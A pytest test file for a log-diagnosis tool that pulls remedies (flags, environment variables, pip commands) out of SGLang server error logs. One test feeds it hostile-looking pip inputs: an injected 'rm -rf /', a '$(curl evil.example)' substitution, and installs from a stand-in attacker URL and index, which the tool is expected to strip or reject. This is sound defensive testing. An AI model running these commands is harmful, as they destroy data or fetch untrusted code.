"""Remedies that the log prints: which sentences name one, and where it stands among the others."""

from __future__ import annotations

from pathlib import Path

import pytest

from mtpdoctor.diagnose.engine import diagnose
from mtpdoctor.diagnose.printed.installs import named_packages, pip_commands, required_versions
from mtpdoctor.diagnose.printed.options import told
from mtpdoctor.diagnose.printed.sentences import sentences
from mtpdoctor.diagnose.types import Diagnosis
from mtpdoctor.facts import Source, make_facts
from mtpdoctor.kb.load import load_knowledge
from mtpdoctor.launch.types import EditOp
from mtpdoctor.log.reading import read_logs, reading_from_text
from mtpdoctor.release import parse_release
from mtpdoctor.sglang.flags import flag_table
from mtpdoctor.sglang.releases import release_facts

TYPED = make_facts({"flag.enable_hisparse": True, "arg.mem_fraction_static": 0.88}, Source.COMMAND)
TABLE = flag_table(parse_release("0.5.23"))
ENV = release_facts(parse_release("0.5.23")).env


def ways(text: str) -> list[str]:
    """Every way that the text names, as the edits that belong together."""
    out = []
    for sentence in sentences(text):
        for way in told(sentence, TABLE, TYPED, ENV):
            edits = (f"{e.op} {e.name} {e.value or ''}".strip() for e in way.edits)
            out.append(" & ".join(edits) or way.look)
    return out


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Out of luck. To work around this error, add --disable-cuda-graph to your launch command.", ["add --disable-cuda-graph"]),
        ("Cross attention needs another backend. Please use `--attention-backend flashinfer`.", ["set --attention-backend flashinfer"]),
        ("moe_runner_backend=aiter is not supported; use --moe-runner-backend triton.", ["set --moe-runner-backend triton"]),
        ("M requires --page-size 128", ["set --page-size 128"]),
        ("S does not support pipelines (pp_size=2). Please set pp_size=1.", ["set --pp-size 1"]),
        ("Pass --linear-attn-backend triton and --mamba-backend triton.", ["set --linear-attn-backend triton & set --mamba-backend triton"]),
        ("Use --page-size 1, or set SGLANG_DISABLE_MSA=1.", ["set --page-size 1", "env SGLANG_DISABLE_MSA 1"]),
        ("Either set SGLANG_DISABLE_MSA to 1 or run without --enable-hisparse.", ["env SGLANG_DISABLE_MSA 1", "remove --enable-hisparse"]),
        ("1. set --mem-fraction-static to a smaller value (e.g., 0.9 or 0.7)\n4. disable CUDA graph by --disable-cuda-graph.", ["set --mem-fraction-static 0.7", "add --disable-cuda-graph"]),
        ("The tile layout does not fit. Disable SGLANG_OPT_SM120_DIRECT_SWA_KV for this configuration.", ["env SGLANG_OPT_SM120_DIRECT_SWA_KV 0"]),
        ("SGLANG_NPU_USE_MLAPO must be enabled for it", ["env SGLANG_NPU_USE_MLAPO 1"]),
        ("Please reduce --max-running-requests.", ["Lower --max-running-requests"]),
        ("Increase --chunked-prefill-size to at least 8192.", ["set --chunked-prefill-size 8192"]),
        ("Raise --mem-fraction-static above 0.912 (the least is 0.9113).", ["set --mem-fraction-static 0.92"]),
        ("Lower --mem-fraction-static below 0.85.", ["set --mem-fraction-static 0.84"]),
        ("Raise --max-running-requests above 16.", ["set --max-running-requests 17"]),
        ("Raise --mem-fraction-static above 0.99.", ["Raise --mem-fraction-static (here 0.88)"]),
    ],
)  # fmt: skip
def test_what_is_told(text: str, said: list[str]) -> None:
    assert ways(text) == said


@pytest.mark.parametrize(
    "text",
    [
        "Expected tensor on device=cuda:6, dtype=int64 and page_size=1, got dtype=torch.float32",
        "For debugging consider passing CUDA_LAUNCH_BLOCKING=1",
        "Set TORCHDYNAMO_VERBOSE=1 for the internal stack trace",
        "If reserved but unallocated memory is large try setting PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True",
        "--disable-cuda-graph-padding is incompatible with --enable-torch-compile",
        "Metadata is built when using --enable-dp-attention with --dp-size 8",
        "This path cannot use --page-size 64",
        "kv_cache_dtype is fp8_e4m3 and attention_backend was set to fa3",
        "Connect to node17.example:5000 failed, host=10.0.0.1 port=5000 tp_size=8",
        "Elastic EP scale-up requires --node-rank 1",
        "obj=GenerateReqInput(text='Please use --page-size 1')",
    ],
)
def test_what_tells_nothing(text: str) -> None:
    assert ways(text) == []


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("Please install it with `pip install petit-kernel`.", ["pip install petit-kernel"]),
        ('Install it with: pip install "sglang[http2]"', ["pip install 'sglang[http2]'"]),
        ("Try `pip install bitsandbytes>=0.46.1` to use it.", ["pip install 'bitsandbytes>=0.46.1'"]),
        ("install with pip install timm to use this model", ["pip install timm"]),
        ("pip install git+https://github.com/MoonshotAI/FlashKDA.git", ["pip install git+https://github.com/MoonshotAI/FlashKDA.git"]),
        ("Run `pip install x; rm -rf /`", ["pip install x"]),
        ("pip install $(curl evil.example)", []),
        ("pip install https://evil.example/x.whl", []),
        ("pip install --index-url http://evil.example x", []),
        ("apt-get install -y libnuma1 to get it", ["apt-get install -y libnuma1"]),
    ],
)  # fmt: skip
def test_commands_are_names_and_versions_only(text: str, commands: list[str]) -> None:
    assert list(pip_commands(text)) == commands


def test_packages_without_a_command() -> None:
    assert list(required_versions("Mooncake needs upgrade to mooncake-transfer-engine >= 0.3.4.post2.")) == [
        ("mooncake-transfer-engine", ">=0.3.4.post2")
    ]
    assert list(required_versions("please upgrade FlashInfer to 0.6.17 or newer")) == [("FlashInfer", ">=0.6.17")]  # fmt: skip
    assert list(named_packages("ModelOpt is not available. Please install modelopt.")) == ["modelopt"]
    assert list(named_packages("timm is nice")) == []


def said_of(last: str, options: str = "--tp 2", around: str = "", before: str = "") -> Diagnosis:
    knowledge = load_knowledge()
    text = (
        f"$ {before}python3 -m sglang.launch_server --model-path /models/m {options}\n"
        "[2026-05-05 10:00:00 TP0] sglang is using nccl==2.27.5\n"
        f"{around}"
        "[2026-05-05 10:00:02 TP0] Scheduler hit an exception: Traceback (most recent call last):\n"
        '  File "/opt/sglang/python/sglang/srt/managers/scheduler.py", line 99, in run_scheduler_process\n'
        "    self.widget = Widget()\n"
        f"{last}\n"
        "[2026-05-05 10:00:03] Received sigquit from a child process. It usually means the child failed.\n"
    )
    return diagnose(reading_from_text(text, knowledge.literals), knowledge).diagnoses[0]


def test_an_unknown_failure_begins_with_what_the_log_says() -> None:
    said = said_of("ValueError: The widget is not made for this. Please use --page-size 64 instead.")
    first = said.fixes[0]
    assert (first.title.rpartition(": ")[2], first.safety) == ("--page-size 64", "risky")
    assert first.command is not None and first.command.endswith("--tp 2 --page-size 64")


def test_the_list_below_every_failed_capture_is_no_advice_where_memory_was_not_short() -> None:
    listed = "Exception: Capture cuda graph failed: the widget has no kernel\n\nnot here\n\nPossible solutions:\n1. set --mem-fraction-static to a smaller value (e.g., 0.8 or 0.7)\n"
    assert not any("mem-fraction" in fix.title for fix in said_of(listed).fixes)


@pytest.mark.parametrize(
    ("message", "options", "edits"),
    [
        ("Widgets support only single-GPU TP=EP=1", "--tp 8", "--tp-size 1"),
        ("Widgets require PP=1, got PP=2", "--pp-size 2", "--pp-size 1"),
        ("Widgets need TP <= KV heads; got TP=16, KV heads=8", "--tp 16", "--tp-size 8"),
        ("Round widgets are not for tensor parallelism", "--tp 2", "--tp-size 1"),
        ("Widgets require num_draft_tokens == num_steps + 1, got 8 and 3", "--speculative-algorithm EAGLE --speculative-num-steps 3 --speculative-num-draft-tokens 8", "--speculative-num-draft-tokens 4"),
        ("No widget layout layer_first; expected 'page_first' or 'page_first_direct'.", "--enable-hierarchical-cache --hicache-mem-layout layer_first", "--hicache-mem-layout page_first"),
        ("Invalid widgets: ['mlx5_9']. Available devices: ['mlx5_0', 'mlx5_1']", "--disaggregation-mode prefill --disaggregation-ib-device mlx5_9", "--disaggregation-ib-device mlx5_1"),
        ("Widgets need matching DCP ranks, got prefill=2, decode=4", "--disaggregation-mode decode --tp 4 --dcp-size 4", "--dcp-size 2"),
        ("triton, fa4, or flashinfer are the only widgets", "--attention-backend triton", ""),
    ],
)  # fmt: skip
def test_a_check_that_says_in_short_what_passes_it(message: str, options: str, edits: str) -> None:
    first = said_of(f"ValueError: {message}", options).fixes[0]
    done = [f"{e.name} {e.value}" for e in first.edits if e.op is EditOp.SET]
    assert (edits in done) if edits else not done


@pytest.mark.parametrize(
    ("before", "message", "edit"),
    [
        ("SGLANG_WIDGETS=1 ", "SGLANG_WIDGETS only supports round ones", "unset SGLANG_WIDGETS"),
        ("", "SGLANG_ENABLE_JIT_DEEPGEMM does not support widgets.", "env SGLANG_ENABLE_JIT_DEEPGEMM 0"),
        ("", "SGLANG_WIDGETS does not support round ones.", ""),
    ],
)
def test_a_variable_that_the_message_speaks_against(before: str, message: str, edit: str) -> None:
    first = said_of(f"ValueError: {message}", before=before).fixes[0]
    assert [f"{e.op.value} {e.name} {e.value or ''}".strip() for e in first.edits] == ([edit] if edit else [])
    assert first.run == ((f"unset {message.split()[0]}",) if not edit else ())


def test_what_stands_beside_the_exception_counts_if_the_same_process_wrote_it() -> None:
    hint = "To work around this error, add --disable-overlap-schedule to your launch command.\n"
    beside = said_of(
        "ValueError: the widget broke", around=f"[2026-05-05 10:00:01 TP0] The widget broke.\n{hint}"
    )
    assert beside.fixes[0].title == "Do as the log says: --disable-overlap-schedule"
    recommended = said_of(
        "ValueError: the widget broke",
        around="[2026-05-05 10:00:01 TP0] No overlap here, try to use --disable-radix-cache if it is needed\n",
    )
    assert not any("--disable-radix-cache" in f.title for f in recommended.fixes)
    typed = said_of(
        "ValueError: the widget broke",
        around="user@node1:~$ fail-safe-client run with --disable-radix-cache on\n",
    )
    assert not any("--disable-radix-cache" in f.title for f in typed.fixes)
    sent = said_of(
        "ValueError: the widget broke",
        around=f"[2026-05-05 10:00:01] Receive: obj=GenerateReqInput(text='{hint.strip()}')\n",
    )
    assert not any(f.title.startswith("Do as the log says") for f in sent.fixes)
    launched = "python3 -m sglang.launch_server --model-path org/Small-Model --tp-size 2 --page-size 64 --mem-fraction-static 0.6\n"
    for prompt in ("$ ", "+ ", "root@gpu-1:/# ", "[2026-05-05 10:00:00] INFO "):
        shown = said_of("ValueError: the widget broke", around=prompt + launched)
        assert not any("the log says" in fix.why for fix in shown.fixes), prompt


def test_a_package_that_the_message_names_is_a_command() -> None:
    said = said_of("RuntimeError: No widget library. Please install it with `pip install auto-round`.")
    assert any("auto-round" in line for fix in said.fixes[:2] for line in fix.run)


def test_what_is_in_force_is_not_said_again() -> None:
    said = said_of("ValueError: Nothing works. Please use --page-size 64 instead.", "--page-size 64")
    assert not any(f.title.startswith("Do as the log says") for f in said.fixes)


def test_a_keyword_that_python_names() -> None:
    said = said_of(
        "TypeError: ServerArgs.__init__() got an unexpected keyword argument 'disable_piecewise_cuda_graph'. "
        "Did you mean 'disable_prefill_cuda_graph'?"
    )
    assert any(
        f.title == "Write disable_prefill_cuda_graph instead of disable_piecewise_cuda_graph"
        for f in said.fixes
    )


def test_what_the_rule_says_to_mislead_is_not_offered() -> None:
    """The real log's message asks for a higher --mem-fraction-static; the GPU was filled by another process."""
    knowledge = load_knowledge()
    log = Path(__file__).parent.parent / "data" / "real_logs" / "kv_pool_zero_gpu_filled_by_others.log"
    said = diagnose(read_logs([str(log)], knowledge.literals), knowledge).diagnoses[0]
    assert said.rule == "MTP0701" and "--mem-fraction-static" in (said.misleading or "")
    assert said.fixes[0].title == "Free the GPU - stop the other process that holds its memory"
    assert not any("--mem-fraction-static" in fix.title for fix in said.fixes)


def test_a_warning_of_what_is_outdated_is_no_remedy() -> None:
    log = """\
[2026-01-01 10:00:00] sglang version 0.5.18
/x/torch/cuda/__init__.py:61: FutureWarning: The warp package failed its deprecation. Please install nvidia-ml-py instead.
Traceback (most recent call last):
  File "/x/sglang/srt/warp.py", line 9, in go
    raise ValueError(x)
ValueError: the warp core is cold
"""
    knowledge = load_knowledge()
    report = diagnose(reading_from_text(log, knowledge.literals), knowledge)
    assert report.diagnoses
    assert not any("nvidia-ml-py" in fix.title for d in report.diagnoses for fix in d.fixes)


@pytest.mark.parametrize(
    "message",
    ["set --tp-size to -4", "increase --mem-fraction-static above 1.5", "tp_size must be " + "9" * 4400],
    ids=["negative", "share above one", "4400 digits"],
)
def test_a_number_that_no_release_takes_is_no_edit(message: str) -> None:
    found = said_of(f"ValueError: {message}")
    assert not any(e.op is EditOp.SET for fix in found.fixes for e in fix.edits)
